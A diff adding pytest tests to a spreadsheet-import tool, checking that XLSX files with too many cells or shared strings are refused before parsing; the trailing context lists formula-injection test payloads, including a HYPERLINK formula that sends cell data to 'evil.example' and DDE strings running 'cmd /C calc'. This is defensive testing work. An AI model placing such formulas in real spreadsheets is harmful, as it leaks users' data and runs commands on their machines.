@@ -235,6 +235,68 @@ def test_corrupt_xml_part_inside_xlsx_is_refused_clearly(fresh_db, tmp_path, mem
 
 
 
+# ------------------------------------------------------------------ zip bombs (item 9)
+def _random_cells(rows: int, cols: int) -> bytes:
+    import random
+
+    rnd = random.Random(15)
+    return "".join("<row>" + "".join(f"<c><v>{rnd.getrandbits(30)}</v></c>" for _ in range(cols)) + "</row>"
+                   for _ in range(rows)).encode()
+
+
+def _with_criteria_rows(src: Path, dst: Path, extra: bytes) -> None:
+    """The workbook with extra rows of cells on the criteria sheet and without its <dimension> (openpyxl would
+    otherwise stop reading at the declared last row)."""
+    import re
+
+    with zipfile.ZipFile(src) as zin:
+        sheet = zin.read("xl/worksheets/sheet2.xml")
+    sheet = re.sub(rb"<dimension ref=\"[^\"]*\"/>", b"", sheet).replace(b"</sheetData>", extra + b"</sheetData>")
+    _rewrite_member(src, dst, "xl/worksheets/sheet2.xml", sheet)
+
+
+@pytest.mark.parametrize(("kind", "message"), [("cells", "te veel cellen (meer dan 2.000)"),
+                                              ("strings", "te veel verschillende teksten (meer dan 2.000)")])
+def test_xlsx_with_too_many_cells_or_texts_is_refused_before_parsing(
+        tmp_path, mini_pack_path, monkeypatch, kind, message) -> None:
+    """A 25 MB pack of 6.3 million random numbers (5:1, so no ratio check catches it) took openpyxl 75 s, and 3
+    million shared strings 44 s: the counts are bounded while unzipping, before openpyxl parses anything."""
+    from criteria_library import exchange
+
+    db = tmp_path / "lib.db"
+    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
+    good = tmp_path / "good.xlsx"
+    assert run_cli("--db", str(db), "library", "export", str(good))[0] == 0
+    monkeypatch.setattr(exchange, "MAX_XLSX_CELLS" if kind == "cells" else "MAX_XLSX_STRINGS", 2_000)
+    bomb = tmp_path / "bom.xlsx"
+    if kind == "cells":
+        _with_criteria_rows(good, bomb, _random_cells(100, 25))
+    else:
+        sst = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>" + b"".join(
+            f"<si><t>{i:x}</t></si>".encode() for i in range(2_500)) + b"</sst>"
+        _rewrite_member(good, bomb, "xl/sharedStrings.xml", sst)
+    parsed: list[object] = []
+    monkeypatch.setattr(exchange, "_load_sheets", lambda path: parsed.append(path))  # openpyxl must not be reached
+    before = db_fingerprint(db)
+    files_before = sorted(tmp_path.rglob("*"))
+    for extra in (["--dry-run"], []):
+        code, _out, err = run_cli("--db", str(db), "library", "import", str(bomb), *extra)
+        assert code == 2 and message in err and "splits het pakket" in err, err
+    assert not parsed
+    assert db_fingerprint(db) == before
+    assert sorted(tmp_path.rglob("*")) == files_before  # no backup
+
+
+def test_xlsx_within_the_bounds_still_imports(fresh_db, tmp_path) -> None:
+    """The counts do not refuse an ordinary pack: what we export reads back."""
+    from criteria_library import exchange
+
+    good = tmp_path / "good.xlsx"
+    export_pack(fresh_db, good)
+    assert len(read_pack(good).criteria) == len(fresh_db.criteria())
+    exchange._check_xlsx_counts(good)
+
+
 # ------------------------------------------------------------------ formula injection (item 7)
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik hier")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
